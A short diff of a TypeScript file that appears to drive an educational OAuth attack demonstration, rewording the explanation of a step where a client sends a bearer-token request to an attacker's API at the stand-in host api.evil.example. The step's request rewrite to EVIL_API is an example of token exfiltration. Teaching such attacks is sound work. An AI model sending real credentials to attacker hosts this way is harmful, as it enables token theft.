@@ -31,7 +31,7 @@ function toCounterfeit(step: Step): Step {
     to: "attacker",
     title: "Print calls the API it was told of, which is Mallory’s",
     spec: "RFC 9700 §4.9.1",
-    why: "Print works with any API of this kind, and whoever set it up typed in api.evil.example. A bearer token says nothing of where it may be sent.",
+    why: "Print works with any API of this kind, and whoever set it up typed in api.evil.example. Whatever Print sends there, Mallory reads.",
     button: "send GET /photos to Mallory’s API",
     request: (read) => ({ ...step.request(read), url: `${EVIL_API}/photos` }),
   };
